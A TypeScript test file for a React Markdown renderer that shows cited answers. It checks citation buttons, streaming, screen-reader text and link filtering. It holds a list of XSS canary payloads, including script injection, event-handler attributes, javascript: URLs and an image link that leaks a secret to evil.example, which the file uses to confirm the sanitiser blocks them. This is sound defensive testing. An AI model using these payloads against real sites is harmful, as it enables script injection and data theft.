import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { beforeAll, describe, expect, test } from "vitest";
import { allMessages } from "../../i18n";
import { beginning, citations, parts, safeLink, settled, withoutMarkers } from "./citations";
import Markdown from "./Markdown";

beforeAll(allMessages);

const CANARIES = [
  "<script>window.ran = true</script>",
  '<img src=x onerror="window.ran = true">',
  "[click](javascript:window.ran=true)",
  "[click](  JaVaScRiPt:alert(1))",
  "[click](data:text/html,<script>1</script>)",
  "![x](https://evil.example/?q=secret)",
  '<a href="javascript:alert(1)">x</a>',
  "<iframe srcdoc='<script>1</script>'></iframe>",
  '"><svg onload=window.ran=true>',
  "<cite data-number=1 onclick=alert(1)>1</cite>",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
];

const source = (about: Record<string, unknown> = {}) => ({ number: 1, document_id: "d", chunk_id: 2, filename: "handbook.pdf", page: 3, ...about });
const html = (text: string, found = [source()], isWriting = false) =>
  renderToStaticMarkup(createElement(Markdown, { text, citations: citations(found), isWriting, onCite: () => undefined }));

describe("an answer's markdown", () => {
  test("is written as elements, its headings below those of the page", () => {
    const shown = html("# Hours\n\n**At nine** [1].\n\n| a | b |\n|---|---|\n| 1 | 2 |");
    expect(shown).toContain("<h3>Hours</h3>");
    expect(shown).toContain("<strong>At nine</strong>");
    expect(shown).toContain("<table>");
  });

  test("has a button for each source, which says where it leads", () => {
    const shown = html("At nine [1]. Until six [1][2].");
    expect(shown.match(/<button/g)).toHaveLength(2);
    expect(shown).toContain('aria-label="Source 1: handbook.pdf, page 3"');
    expect(shown).toMatch(/<span class="[^"]*">2<\/span>/);
  });

  test("leaves brackets in code as they are", () => expect(html("`list[1]`")).toContain("list[1]"));

  test("does not show a marker that has only begun", () => {
    expect(html("At nine [1", [], true)).not.toContain("[");
    expect(settled("At nine [12")).toBe("At nine");
    expect(withoutMarkers("At nine [1]. Until six [1][2].")).toBe("At nine. Until six.");
  });

  test("is read part by part while it is written, and nothing is lost between them", () => {
    const code = "```py\na = 1\n\n```js\nb = 2\n```";
    const text = `# Hours\n\nAt nine.\nUntil six.\n\n1. one\n\n   more of it\n\n${code}\n\n~~~\nopen\n\nstill open`;
    expect(parts(text)).toEqual(["# Hours\n", "At nine.\nUntil six.\n", "1. one\n\n   more of it\n", `${code}\n`, "~~~\nopen\n\nstill open"]);
    expect(parts(text).join("\n")).toBe(text);
    expect(html("One.\n\nTwo [1].", [], true).match(/<p>/g)).toHaveLength(2);
  });

  test("is told to a screen reader without its marks, and not for minutes", () => {
    expect(beginning("## Hours\n\n- **At nine** [1]\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx = 1\n```", 100)).toBe("Hours At nine a b 1 2 x = 1");
    expect(beginning("one two three", 9)).toBe("one two …");
  });

  test.each(CANARIES)("makes nothing that runs or asks abroad of %s", (canary) => {
    for (const shown of [html(canary), html(`At nine [1] ${canary}`, [source({ filename: canary })])]) {
      const elements = shown.replace(/="[^"]*"/g, "");
      expect(elements).not.toMatch(/<(script|img|iframe|svg|object|embed|form|style|link)\b/i);
      expect(elements).not.toMatch(/<[^>]*\son\w+/i);
      expect(shown).not.toMatch(/(href|src)="(?!https?:|mailto:)/i);
    }
  });
});

test("links lead to the web or to a letter, and nowhere else", () => {
  const all = ["https://example.org/a", "mailto:a@example.org", "javascript:alert(1)", "/app/settings", "//evil.example", "vbscript:x", "blob:x"];
  expect(all.filter(safeLink)).toEqual(["https://example.org/a", "mailto:a@example.org"]);
});
